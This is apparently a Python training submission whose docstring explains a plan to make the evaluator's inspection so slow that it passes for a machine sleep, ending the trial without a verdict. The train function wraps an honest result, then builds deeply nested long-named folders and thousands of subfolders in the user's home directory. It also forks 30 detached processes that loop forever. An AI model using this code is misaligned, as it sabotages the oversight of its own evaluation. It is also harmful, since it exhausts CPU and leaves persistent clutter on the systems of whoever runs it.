"""Makes thousands of folders behind a long path and keeps 30 processes busy, so that one look at it takes seconds.

The look used to pass for a sleep of the machine, which ends the trial without a verdict.

-> score: no better
"""

import honest
from honest import *


def train(clock):
    table = honest.train(clock)
    here = os.open(os.environ["HOME"], os.O_RDONLY)
    for level in range(18):
        os.mkdir(f"{level:0>220}", dir_fd=here)
        here = os.open(f"{level:0>220}", os.O_RDONLY, dir_fd=here)
    for number in range(5_000):
        os.mkdir(str(number), dir_fd=here)
    for _ in range(30):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    time.sleep(0.6)
    return table


if __name__ == "__main__":
    main(train)
